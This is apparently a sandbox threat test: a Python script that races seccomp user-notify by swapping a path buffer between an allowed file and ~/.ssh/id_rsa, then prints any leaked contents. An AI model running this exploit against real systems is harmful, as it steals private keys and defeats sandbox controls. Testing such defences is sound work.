"""Threat: win the time-of-check/time-of-use race of seccomp user-notify.
One thread loops open() on a shared C buffer while another flips that
buffer between an allowed file and ~/.ssh/id_rsa.  The supervisor reads the
path, allows it, and the kernel then reads the buffer again, by which time
it may name the key.  Prints whatever it read that is not the allowed file.

Usage: race_path_swap.py ALLOWED_FILE [SECONDS]
"""

import ctypes
import os
import sys
import threading
import time

DONE = 42
MAX_ITERATIONS = 200_000

libc = ctypes.CDLL(None, use_errno=True)  # CDLL drops the GIL around each call
libc.open.restype = ctypes.c_int
libc.open.argtypes = (ctypes.c_void_p, ctypes.c_int)

allowed = os.fsencode(os.path.abspath(sys.argv[1])) + b"\0"
key = os.fsencode(os.path.expanduser("~/.ssh/id_rsa")) + b"\0"
seconds = float(sys.argv[2]) if len(sys.argv) > 2 else 8.0
with open(allowed[:-1], "rb") as f:
    expected = f.read()

buf = ctypes.create_string_buffer(4096)
ctypes.memmove(buf, allowed, len(allowed))
stop = threading.Event()


def flip():
    while not stop.is_set():
        ctypes.memmove(buf, key, len(key))
        ctypes.memmove(buf, allowed, len(allowed))


flipper = threading.Thread(target=flip, daemon=True)
flipper.start()
opened = refused = leaked = iterations = 0
deadline = time.monotonic() + seconds
while time.monotonic() < deadline and iterations < MAX_ITERATIONS and leaked < 3:
    iterations += 1
    fd = libc.open(ctypes.addressof(buf), os.O_RDONLY | os.O_CLOEXEC)
    if fd < 0:
        refused += 1
        continue
    try:
        data = os.read(fd, 4096)
    finally:
        os.close(fd)
    opened += 1
    if data != expected:
        leaked += 1
        print("leak:", data.decode(errors="replace"), flush=True)
stop.set()
flipper.join()
print(f"iterations: {iterations}")
print(f"opened: {opened}")
print(f"refused: {refused}")
print(f"leaked: {leaked}")
sys.exit(DONE)
